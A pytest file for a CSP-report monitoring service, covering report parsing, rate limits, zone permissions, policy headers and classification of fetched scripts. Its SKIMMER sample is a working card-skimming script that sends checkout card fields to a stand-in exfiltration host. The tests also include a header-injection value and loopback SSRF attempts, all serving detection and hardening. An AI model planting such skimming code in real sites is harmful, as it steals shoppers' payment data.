"""The monitor's HTTP endpoints: both report formats, clear 4xx answers, rate limits,
permissions per zone, policies, and fetch + classify of reported scripts (text only: the
samples are parsed, never run)."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from fetch_kit import port_of, serve

from bastion.auth import TokenStore
from bastion.config import Settings, load_settings
from bastion.service.app import create_app
from bastion.service.scripts_monitor import ScriptMonitor, client_address, rate_key
from bastion.store.db import Database

ZONE = "shop.example"

SKIMMER = b"""
(function () {
  function send() {
    var data = {};
    var fields = ['cc_number', 'cc_cid', 'cc_exp_month', 'cc_exp_year', 'cardholder'];
    fields.forEach(function (f) {
      var e = document.getElementsByName('payment[' + f + ']')[0];
      if (e && e.value) { data[f] = e.value; }
    });
    var payload = btoa(JSON.stringify(data));
    new Image().src = 'https://analytics-cdn.top/gate.php?data=' + payload;
  }
  if (/onepage|checkout|onestepcheckout/i.test(window.location)) {
    document.addEventListener('submit', send, true);
  }
})();
"""

LIBRARY = b"""
export function debounce(fn, wait) {
  let timer = null;
  return function (...args) {
    clearTimeout(timer);
    timer = setTimeout(() => fn.apply(this, args), wait);
  };
}
export function formatPrice(cents, currency = 'USD') {
  return new Intl.NumberFormat('en-US', { style: 'currency', currency }).format(cents / 100);
}
"""

LIBRARY_V2 = (
    LIBRARY
    + b"""
export function clamp(x, lo, hi) {
  return Math.min(hi, Math.max(lo, x));
}
"""
)


def legacy(
    blocked: str, directive: str = "script-src-elem", page: str = "https://shop.example/"
) -> bytes:
    return orjson.dumps(
        {
            "csp-report": {
                "document-uri": page,
                "blocked-uri": blocked,
                "effective-directive": directive,
                "violated-directive": directive,
                "original-policy": "script-src 'none'",
                "disposition": "report",
            }
        }
    )


def reporting(*blocked: tuple[str, str]) -> bytes:
    return orjson.dumps(
        [
            {
                "type": "csp-violation",
                "url": "https://shop.example/checkout",
                "body": {
                    "documentURL": "https://shop.example/checkout?session=secret",
                    "blockedURL": url,
                    "effectiveDirective": directive,
                    "disposition": "report",
                },
            }
            for url, directive in blocked
        ]
    )


CSP = {"Content-Type": "application/csp-report"}
API = {"Content-Type": "application/reports+json"}


class Api:
    def __init__(self, client: TestClient, tokens: dict[str, str], db_url: str) -> None:
        self.client = client
        self.tokens = tokens
        self.db_url = db_url

    def h(self, who: str) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.tokens[who]}"}

    @property
    def monitor(self) -> ScriptMonitor:
        monitor: ScriptMonitor = self.client.app.state.scripts_monitor  # type: ignore[attr-defined]
        return monitor

    def report(self, body: bytes, headers: dict[str, str], zone: str = ZONE) -> Any:
        return self.client.post(f"/v1/csp/reports/{zone}", content=body, headers=headers)


def _build(tmp_path: Path, client_host: str = "203.0.113.7", **overrides: Any) -> Iterator[Api]:
    url = f"sqlite:///{tmp_path / 'm.db'}"
    db = Database(url)
    db.upgrade()
    store = TokenStore(db)
    tokens = {
        "admin": store.create("root", ["admin"]).token,
        "owner": store.create("shop", ["site_owner"], zones=[ZONE]).token,
        "other_owner": store.create("else", ["site_owner"], zones=["else.example"]).token,
        "analyst": store.create("a", ["analyst"]).token,
        "ingest": store.create("edge", ["ingest"]).token,
    }
    db.dispose()
    options: dict[str, Any] = {
        "database_url": url,
        "banks_dir": tmp_path / "banks",
        "workers": 1,
        "csp_fetch": False,
        "content_deliver": False,
        **overrides,
    }
    settings: Settings = load_settings(None, **options)
    with TestClient(create_app(settings), client=(client_host, 40000)) as client:
        yield Api(client, tokens, url)


@pytest.fixture
def api(tmp_path: Path) -> Iterator[Api]:
    yield from _build(tmp_path, csp_fetch_allow=("loopback",))


@pytest.fixture(scope="module")
def files_server() -> Iterator[Any]:
    with serve("127.0.0.1") as s:
        yield s


# --- reports --------------------------------------------------------------------------


def test_both_formats_fill_the_inventory(api: Api) -> None:
    r = api.report(legacy("https://cdn.example/lib.js?v=3"), CSP)
    assert r.status_code == 202, r.text
    assert r.json() == {
        "received": 1,
        "skipped": 0,
        "recorded": 1,
        "ignored": 0,
        "dropped": 0,
        "new_resources": 1,
        "alerts": 2,
    }
    assert r.headers["access-control-allow-origin"] == "*"
    body = reporting(
        ("https://cdn.example/lib.js", "script-src-elem"),
        ("wss://push.example/socket?token=abc", "connect-src"),
        ("inline", "script-src-elem"),
        ("https://img.example/a.png", "img-src"),
    )
    r = api.report(body, API)
    assert r.status_code == 202, r.text
    assert r.json()["recorded"] == 2 and r.json()["ignored"] == 2
    r = api.client.get(f"/v1/csp/zones/{ZONE}/resources", headers=api.h("owner"))
    assert r.status_code == 200, r.text
    items = {i["url"]: i for i in r.json()["resources"]}
    assert set(items) == {"https://cdn.example/lib.js", "wss://push.example/socket"}
    lib = items["https://cdn.example/lib.js"]
    assert lib["report_count"] == 2 and lib["status"] == "infrequent"
    assert lib["pages"] == ["https://shop.example/checkout", "https://shop.example/"]
    assert items["wss://push.example/socket"]["kind"] == "connection"
    r = api.client.get(f"/v1/csp/zones/{ZONE}/alerts", headers=api.h("owner"))
    kinds = sorted(a["kind"] for a in r.json()["alerts"])
    assert kinds == ["new_domain", "new_domain", "new_script"]


def test_cors_preflight(api: Api) -> None:
    r = api.client.options(
        f"/v1/csp/reports/{ZONE}",
        headers={"Origin": "https://shop.example", "Access-Control-Request-Method": "POST"},
    )
    assert r.status_code == 204
    assert r.headers["access-control-allow-origin"] == "*"
    assert "content-type" in r.headers["access-control-allow-headers"].lower()


@pytest.mark.parametrize(
    ("body", "headers", "status", "fragment"),
    [
        (b"{}", {"Content-Type": "text/plain"}, 415, "unsupported Content-Type 'text/plain'"),
        (b"{}", {}, 415, "unsupported Content-Type"),
        (b"{nope", CSP, 400, "not valid JSON"),
        (b"[]", CSP, 400, "must be an object"),
        (b'{"csp-report": []}', CSP, 400, '"csp-report" is missing or not an object'),
        (b'{"csp-report": {"document-uri": 1}}', CSP, 400, "document-uri must be a string"),
        (b'{"a": 1}', API, 400, "must be a JSON array"),
        (b'[{"type": "csp-violation", "body": 3}]', API, 400, "[0].body"),
        (b"", CSP, 400, "empty"),
    ],
)
def test_malformed_reports_get_clear_4xx(
    api: Api, body: bytes, headers: dict[str, str], status: int, fragment: str
) -> None:
    r = api.report(body, headers)
    assert r.status_code == status, r.text
    assert fragment in r.json()["error"]


def test_oversized_reports_get_413_before_parsing(api: Api) -> None:
    big = b'{"csp-report": {"document-uri": "' + b"a" * 70_000 + b'"}}'
    r = api.report(big, CSP)
    assert r.status_code == 413 and "65536" in r.json()["error"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: the limit holds while reading
        yield b'{"csp-report": {"document-uri": "'
        for _ in range(100):
            yield b"a" * 1000

    r = api.client.post(f"/v1/csp/reports/{ZONE}", content=chunks(), headers=CSP)
    assert r.status_code == 413, r.text
    many = reporting(*[("https://cdn.example/x.js", "script-src")] * 101)
    r = api.report(many, API)
    assert r.status_code == 413 and "at most 100" in r.json()["error"]


def test_unknown_and_invalid_zones(api: Api) -> None:
    r = api.report(legacy("https://cdn.example/a.js"), CSP, zone="never-heard-of.example")
    assert r.status_code == 404 and "not monitored" in r.json()["error"]
    r = api.report(legacy("https://cdn.example/a.js"), CSP, zone="bad_zone!")
    assert r.status_code == 400 and "hostname" in r.json()["error"]
    # A policy makes a zone known.
    r = api.client.put(
        "/v1/csp/zones/new.example/policy", json={"script_src": ["'self'"]}, headers=api.h("admin")
    )
    assert r.status_code == 200, r.text
    r = api.report(legacy("https://cdn.example/a.js"), CSP, zone="New.Example")
    assert r.status_code == 202, r.text


def test_a_flood_from_one_address_gets_429(tmp_path: Path) -> None:
    # A slow refill (one report per 5 s), so a loaded machine cannot refill the bucket.
    for api in _build(tmp_path, csp_ip_rate=0.2, csp_ip_burst=20.0, csp_zone_rate=1000.0):
        started = time.monotonic()
        statuses = [
            api.report(legacy(f"https://cdn.example/{i}.js"), CSP).status_code for i in range(60)
        ]
        refilled = int(0.2 * (time.monotonic() - started)) + 1
        assert statuses[:20] == [202] * 20
        assert statuses.count(429) >= 40 - refilled
        r = api.report(legacy("https://cdn.example/x.js"), CSP)
        assert r.status_code == 429
        assert int(r.headers["retry-after"]) >= 1
        assert "too many reports from this address" in r.json()["error"]
        # Refused reports were not recorded.
        r = api.client.get(f"/v1/csp/zones/{ZONE}/resources?limit=1000", headers=api.h("admin"))
        assert len(r.json()["resources"]) == statuses.count(202)


def test_a_zone_flooded_from_many_addresses_gets_429(tmp_path: Path) -> None:
    for api in _build(
        tmp_path,
        csp_ip_rate=1000.0,
        csp_zone_rate=0.2,
        csp_zone_burst=10.0,
        csp_trusted_proxies=("203.0.113.7/32",),
    ):
        statuses = []
        started = time.monotonic()
        for i in range(30):
            headers = {**CSP, "X-Forwarded-For": f"198.51.100.{i}"}
            statuses.append(api.report(legacy(f"https://cdn.example/{i}.js"), headers).status_code)
        refilled = int(0.2 * (time.monotonic() - started)) + 1
        assert statuses[:10] == [202] * 10 and statuses.count(429) >= 20 - refilled
        r = api.report(legacy("https://cdn.example/z.js"), CSP)
        assert r.status_code == 429 and "zone shop.example" in r.json()["error"]


def test_client_address_and_rate_key() -> None:
    import ipaddress

    proxies = [ipaddress.ip_network("10.0.0.0/8")]
    assert client_address("203.0.113.1", "1.2.3.4", proxies) == "203.0.113.1"  # untrusted peer
    assert client_address("10.0.0.2", "1.2.3.4, 198.51.100.9", proxies) == "198.51.100.9"
    assert client_address("10.0.0.2", "198.51.100.9, 10.0.0.3", proxies) == "198.51.100.9"
    assert client_address("10.0.0.2", None, proxies) == "10.0.0.2"
    assert client_address(None, "1.2.3.4", proxies) == "unknown"
    assert (
        rate_key("2001:db8:1:2:3:4:5:6") == rate_key("2001:db8:1:2:ffff::1") == "2001:db8:1:2::/64"
    )
    assert rate_key("::ffff:198.51.100.9") == "198.51.100.9"
    assert rate_key("198.51.100.9") == "198.51.100.9"


# --- permissions and policies ---------------------------------------------------------


def test_permissions_per_zone(api: Api) -> None:
    api.report(legacy("https://cdn.example/a.js"), CSP)
    base = f"/v1/csp/zones/{ZONE}"
    for path in ("/resources", "/alerts", "/policy"):
        assert api.client.get(base + path, headers=api.h("owner")).status_code == 200
        assert api.client.get(base + path, headers=api.h("analyst")).status_code == 200
        assert api.client.get(base + path, headers=api.h("other_owner")).status_code == 403
        assert api.client.get(base + path, headers=api.h("ingest")).status_code == 403
        assert api.client.get(base + path).status_code == 401
    policy = {"script_src": ["'self'", "https://cdn.example"], "connect_src": []}
    assert api.client.put(base + "/policy", json=policy, headers=api.h("owner")).status_code == 403
    assert (
        api.client.put(base + "/policy", json=policy, headers=api.h("analyst")).status_code == 403
    )
    r = api.client.put(base + "/policy", json=policy, headers=api.h("admin"))
    assert r.status_code == 200, r.text
    (resource,) = api.client.get(base + "/resources", headers=api.h("owner")).json()["resources"]
    r = api.client.get(f"{base}/resources/{resource['id']}", headers=api.h("owner"))
    assert r.status_code == 200 and r.json()["versions"] == []
    r = api.client.get(
        f"/v1/csp/zones/else.example/resources/{resource['id']}", headers=api.h("admin")
    )
    assert r.status_code == 404


def test_policy_get_put_and_generated_headers(api: Api) -> None:
    api.report(legacy("https://cdn.example/a.js"), CSP)
    api.report(legacy("https://shop.example/app.js"), CSP)
    api.report(legacy("https://api.example/collect", "connect-src"), CSP)
    base = f"/v1/csp/zones/{ZONE}/policy"
    r = api.client.get(base, headers=api.h("owner"))
    assert r.status_code == 200, r.text
    got = r.json()
    assert got["policy"] is None
    assert got["suggested"] == {
        "script_src": ["'self'", "https://cdn.example"],
        "connect_src": ["https://api.example"],
        "report": True,
    }
    endpoint = "http://testserver/v1/csp/reports/shop.example"
    assert got["enforcing_headers"] == [
        {
            "name": "Content-Security-Policy",
            "value": "script-src 'self' https://cdn.example; connect-src https://api.example; "
            f"report-uri {endpoint}; report-to bastion-csp",
        },
        {"name": "Reporting-Endpoints", "value": f'bastion-csp="{endpoint}"'},
    ]
    assert got["report_only_headers"][0] == {
        "name": "Content-Security-Policy-Report-Only",
        "value": "script-src 'none' 'report-sample'; connect-src 'none'; "
        f"report-uri {endpoint}; report-to bastion-csp",
    }
    bad = api.client.put(
        base, json={"script_src": ["https://x.example; script-src *"]}, headers=api.h("admin")
    )
    assert bad.status_code == 400 and "script-src" in bad.json()["error"]
    bad = api.client.put(base, json={"style_src": []}, headers=api.h("admin"))
    assert bad.status_code == 400 and "unknown field" in bad.json()["error"]
    r = api.client.put(
        base, json={"script_src": ["'self'"], "report": False}, headers=api.h("admin")
    )
    assert r.status_code == 200
    assert r.json()["enforcing_headers"] == [
        {"name": "Content-Security-Policy", "value": "script-src 'self'; connect-src 'self'"}
    ]
    got = api.client.get(base, headers=api.h("owner")).json()
    assert got["policy"] == {"script_src": ["'self'"], "connect_src": ["'self'"], "report": False}
    assert got["updated_by"] is not None
    # A Host header that cannot go into a CSP header falls back to the bare path.
    r = api.client.get(base, headers={**api.h("owner"), "Host": "evil.example;script-src"})
    assert r.status_code == 200
    assert r.json()["report_only_headers"][1]["value"] == (
        'bastion-csp="/v1/csp/reports/shop.example"'
    )


# --- fetch and classify ---------------------------------------------------------------


def test_reported_scripts_are_fetched_and_classified(api: Api, files_server: Any) -> None:
    port = port_of(files_server)
    files_server.files["lib.js"] = LIBRARY
    files_server.files["skim.js"] = SKIMMER
    lib = f"http://127.0.0.1:{port}/files/lib.js"
    skim = f"http://127.0.0.1:{port}/files/skim.js"
    api.report(reporting((lib + "?v=1", "script-src-elem"), (skim, "script-src-elem")), API)
    assert api.monitor.process_due() == 2
    assert api.monitor.process_due() == 0
    alerts = api.client.get(f"/v1/csp/zones/{ZONE}/alerts", headers=api.h("owner")).json()["alerts"]
    malicious = [a for a in alerts if a["kind"] == "malicious"]
    assert [a["url"] for a in malicious] == [skim]
    assert malicious[0]["detail"]["class"] == "magecart" and malicious[0]["severity"] == "critical"
    items = api.client.get(
        f"/v1/csp/zones/{ZONE}/resources?kind=script", headers=api.h("owner")
    ).json()["resources"]
    by_url = {i["url"]: i for i in items}
    assert by_url[lib]["current_version"]["class"] == "benign"
    assert by_url[skim]["current_version"]["class"] == "magecart"
    assert by_url[skim]["current_version"]["scores"]["magecart"] <= 50
    assert ("/files/lib.js", f"127.0.0.1:{port}") in files_server.hits

    # A deploy changes the library: the next fetch records a version and a code change.
    files_server.files["lib.js"] = LIBRARY_V2
    monitor = api.monitor
    later = monitor.clock()
    from datetime import timedelta

    monitor.clock = lambda: later + timedelta(hours=25)
    api.report(reporting((lib, "script-src-elem"), (skim, "script-src-elem")), API)
    assert monitor.process_due() == 2
    alerts = api.client.get(
        f"/v1/csp/zones/{ZONE}/alerts?kind=code_change", headers=api.h("owner")
    ).json()["alerts"]
    assert [a["url"] for a in alerts] == [lib]
    detail = api.client.get(
        f"/v1/csp/zones/{ZONE}/resources/{by_url[lib]['id']}", headers=api.h("owner")
    ).json()
    assert detail["version_count"] == 2 and len(detail["versions"]) == 2


def test_reports_cannot_make_the_fetcher_reach_forbidden_addresses(
    tmp_path: Path, files_server: Any
) -> None:
    """With the default settings (no loopback), a report naming a loopback script is
    inventoried but its fetch is refused: the server sees nothing."""
    for api in _build(tmp_path):
        files_server.files["secret.js"] = LIBRARY
        before = len(files_server.hits)
        port = port_of(files_server)
        for target in (
            f"http://127.0.0.1:{port}/files/secret.js",
            f"http://2130706433:{port}/files/secret.js",
            f"http://localhost:{port}/files/secret.js",
        ):
            api.report(legacy(target), CSP)
        assert api.monitor.process_due() == 3
        assert len(files_server.hits) == before
        items = api.client.get(f"/v1/csp/zones/{ZONE}/resources", headers=api.h("admin")).json()
        errors = [i["fetch"]["error"] for i in items["resources"]]
        assert len(errors) == 3
        assert all(e.startswith("forbidden_address") for e in errors), errors


def test_the_background_loop_fetches_without_being_asked(tmp_path: Path, files_server: Any) -> None:
    for api in _build(
        tmp_path, csp_fetch=True, csp_fetch_interval_s=0.1, csp_fetch_allow=("loopback",)
    ):
        files_server.files["bg.js"] = SKIMMER
        url = f"http://127.0.0.1:{port_of(files_server)}/files/bg.js"
        assert api.report(legacy(url), CSP).status_code == 202
        deadline = time.monotonic() + 20
        kinds: list[str] = []
        while time.monotonic() < deadline:
            r = api.client.get(f"/v1/csp/zones/{ZONE}/alerts", headers=api.h("owner"))
            kinds = [a["kind"] for a in r.json()["alerts"]]
            if "malicious" in kinds:
                break
            time.sleep(0.1)
        assert "malicious" in kinds
